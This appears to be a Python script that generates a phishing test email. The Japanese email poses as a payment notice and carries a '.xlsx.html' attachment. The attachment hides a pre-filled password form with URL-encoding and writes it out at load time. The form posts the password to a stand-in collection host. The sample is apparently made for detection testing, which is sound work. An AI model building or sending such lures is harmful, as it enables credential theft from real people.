"""A page whose script writes a form for the password; an address is filled in already.
Scenario: Microsoft, 2021-08-12."""
from kit import *


def make():
    form = ('<html><body><h2>サインイン</h2><form action="https://collect.example.net/p.php" method="post">'
            '<input name="u" value="soumu@example.co.jp"><input type="password" name="p"><input type="submit" value="次へ"></form></body></html>')
    hidden = "".join("%%%02X" % b for b in form.encode())
    page = "<html><body><script>document.write(decodeURIComponent('%s'))</script></body></html>" % hidden
    return (Mail("お支払通知書", "keiri@trade.example.com", name="経理部", date="Wed, 06 Apr 2022 10:00:00 +0900")
            .text("お支払通知書をお送りします。添付のファイルをご確認ください。\n")
            .attach("支払通知書.xlsx.html", page.encode(), "text/html").bytes())
